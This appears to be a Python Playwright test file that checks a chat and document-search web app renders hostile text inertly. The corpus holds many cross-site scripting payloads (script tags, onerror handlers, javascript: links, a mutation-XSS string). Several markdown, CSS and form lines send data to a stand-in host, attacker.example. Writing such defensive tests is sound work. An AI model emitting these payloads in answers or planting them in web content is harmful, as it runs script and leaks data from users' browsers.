"""Text of models, documents and names in a real browser: no execution, no request to anybody else."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import Page, Route, expect

from tests.browser.browser import Site, open_tab

pytestmark = pytest.mark.browser
RUN = "window.pwned=1"
CORPUS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<a href=javascript:{RUN}>clique</a>",
    f"[clique](javascript:{RUN})",
    f"[clique](JaVa\tScRiPt:{RUN})",
    f"[clique](&#106;avascript:{RUN})",
    f"[clique](data:text/html,<script>opener.{RUN}</script>)",
    "![roubo](https://attacker.example/?q=segredo)",
    "![roubo](//attacker.example/p.png)",
    "![sair](/auth/logout)",
    "[![x](https://attacker.example/p.png)](https://attacker.example/)",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<style>@import url(https://attacker.example/x.css);body{background:url(https://attacker.example/y)}</style>",
    "<base href=https://attacker.example/>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<form action=https://attacker.example/><button id=main>enviar</button></form>",
    "<object data=https://attacker.example/x></object><embed src=https://attacker.example/x>",
    "<video src=https://attacker.example/v autoplay><audio src=https://attacker.example/a autoplay>",
    f"```html\n<script>{RUN}</script>\n```",
    f'<https://a.example/" onmouseover="{RUN}>',
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |",
    f"<math><mtext></table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e {{{{constructor.constructor('{RUN}')()}}}}",
)
NAME = f'"><img src=x onerror={RUN}><script>{RUN}</script>'


def watch(page: Page) -> list[str]:
    """Collect dialogs and new windows, which hostile text might open."""
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    page.on("popup", lambda popup: seen.append(popup.url))
    return seen


def unharmed(page: Page, seen: list[str]) -> bool:
    # A round through the event loop and a frame, so that what would run has run.
    page.evaluate("new Promise(done => requestAnimationFrame(() => setTimeout(done, 50)))")
    return page.evaluate("window.pwned") is None and seen == []


def test_a_models_answer_never_runs_and_never_calls_out(page: Page, site: Site) -> None:
    answers = iter(CORPUS)

    def fulfil(route: Route) -> None:
        chunk = json.dumps({"choices": [{"delta": {"content": next(answers)}}]})
        route.fulfill(content_type="text/event-stream", body=f"data: {chunk}\n\ndata: [DONE]\n\n")

    page.route("**/v1/chat/completions", fulfil)
    seen = watch(page)
    open_tab(page, site, "chat")
    for count, _ in enumerate(CORPUS, start=1):
        page.get_by_label("Mensagem", exact=True).fill(f"pergunta {count}")
        page.keyboard.press("Enter")
        expect(page.locator("[data-role=assistant] .bubble-foot")).to_have_count(count)
    bubbles = page.locator("[data-role=assistant] .markdown")
    assert (
        bubbles.locator(
            "script, iframe, img, object, embed, form, style, link, base, meta, video, svg[onload]"
        ).count()
        == 0
    )
    for href in bubbles.locator("a").evaluate_all("links => links.map(link => link.href)"):
        assert href.startswith(("http://", "https://")), href
    for link in bubbles.get_by_text("clique").all():
        link.click()
    assert unharmed(page, seen)
    page.reload()
    expect(page.locator("[data-role=assistant]").first).to_be_visible()
    assert unharmed(page, seen)


def test_hostile_questions_and_titles_are_shown_as_they_are(page: Page, site: Site) -> None:
    page.route(
        "**/v1/chat/completions",
        lambda route: route.fulfill(content_type="text/event-stream", body="data: [DONE]\n\n"),
    )
    seen = watch(page)
    open_tab(page, site, "chat")
    page.get_by_label("Mensagem", exact=True).fill(NAME)
    page.keyboard.press("Enter")
    expect(page.locator("[data-role=user]")).to_have_text(NAME)
    assert unharmed(page, seen)


def test_hostile_documents_stay_text(page: Page, site: Site) -> None:
    document = {
        "id": "doc_1",
        "title": NAME,
        "status": "ready",
        "size_bytes": 9,
        "pages": 1,
        "chunks": 1,
        "created_at": 1_760_000_000,
    }
    quote = CORPUS[0] + CORPUS[1]
    answer = {"answer": "\n\n".join(CORPUS), "found": True}
    answer["citations"] = [
        {"document_id": "doc_1", "title": NAME, "page": 1, "start": 0, "end": len(quote), "quote": quote}
    ]
    page.route("**/v1/documents", lambda route: route.fulfill(json={"data": [document]}))
    page.route(
        "**/v1/documents/doc_1/text", lambda route: route.fulfill(json={"text": quote + NAME, "pages": []})
    )
    page.route("**/ask/question", lambda route: route.fulfill(json=answer))
    seen = watch(page)
    open_tab(page, site, "documents")
    expect(page.locator("[data-document]")).to_contain_text(NAME)
    page.get_by_role("textbox", name="Pergunta").fill("x")
    page.keyboard.press("Enter")
    page.locator(".citation").click()
    expect(page.get_by_role("dialog").locator("mark")).to_have_text(quote)
    assert unharmed(page, seen)


def test_hostile_names_of_models_personas_and_jobs_stay_text(page: Page, site: Site) -> None:
    model = {
        "id": NAME,
        "task": "chat",
        "license": NAME,
        "service": "chat",
        "builtin": True,
        "languages": [NAME],
    }
    offer = {
        **model,
        "id": "b",
        "installed": False,
        "fits": False,
        "why_not": NAME,
        "good_for": {"pt-BR": NAME},
    }
    job = {
        "id": "job_1",
        "kind": NAME,
        "status": "completed",
        "result": {"data": [{"url": "javascript:" + RUN}]},
    }
    page.route("**/v1/models", lambda route: route.fulfill(json={"data": [model]}))
    page.route("**/v1/catalogue", lambda route: route.fulfill(json={"data": [offer]}))
    page.route(
        "**/v1/personas",
        lambda route: route.fulfill(json={"data": [{"id": "p", "name": NAME, "description": NAME}]}),
    )
    page.route("**/v1/jobs", lambda route: route.fulfill(json={"data": [job]}))
    seen = watch(page)
    for tab in ("chat", "models", "images", "status"):
        open_tab(page, site, tab)
        page.wait_for_load_state("networkidle")
    expect(page.locator("[data-job]")).to_contain_text(NAME)
    assert unharmed(page, seen)


def test_the_page_forbids_what_it_does_not_need(page: Page, site: Site) -> None:
    answer = page.goto(site.url)
    assert answer
    policy = answer.headers["content-security-policy"]
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy
    assert "unsafe-eval" not in policy
    assert "script-src 'self'" in policy
